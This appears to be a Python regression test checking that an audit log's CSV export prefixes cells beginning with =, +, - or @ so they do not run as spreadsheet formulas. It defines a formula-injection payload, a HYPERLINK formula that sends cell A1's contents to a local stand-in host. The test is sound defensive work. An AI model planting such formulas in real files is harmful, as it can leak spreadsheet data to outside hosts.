"""Issue 13 #9: a comment like ``=HYPERLINK(...)`` must not reach the CSV export as a formula."""

from __future__ import annotations

import csv
import io

from components.promotion_views import audit_frame
from services.promotion import audit
from services.promotion.approvals import reject
from services.registry.mlflow_client import make_client
from tests.support.demo import MODEL, settings_with

EVIL = '=HYPERLINK("http://127.0.0.1:9/x?"&A1,"click")'


def test_formula_cells_are_prefixed_in_the_csv_export(demo_copy):
    settings = settings_with(demo_copy.home)
    reject(settings, MODEL, "3", "alice", EVIL, client=make_client(settings))
    audit.append(
        settings,
        {
            "at": "2026-01-01T00:00:00Z",
            "user": "@mallory",
            "action": "request",
            "outcome": "done",
            "model": MODEL,
            "version": "2",
            "reason": "+1 from me",
            "comment": "-2+3",
        },
    )
    rows = list(csv.DictReader(io.StringIO(audit.csv_export(audit_frame(audit.query(settings))).decode())))
    by_comment = {r["comment"] for r in rows}
    assert "'" + EVIL in by_comment and "'-2+3" in by_comment
    assert {r["user"] for r in rows} >= {"alice", "'@mallory"}
    assert "'+1 from me" in {r["reason"] for r in rows}
    for r in rows:
        for value in r.values():
            assert not (value or "").startswith(("=", "+", "-", "@")), value
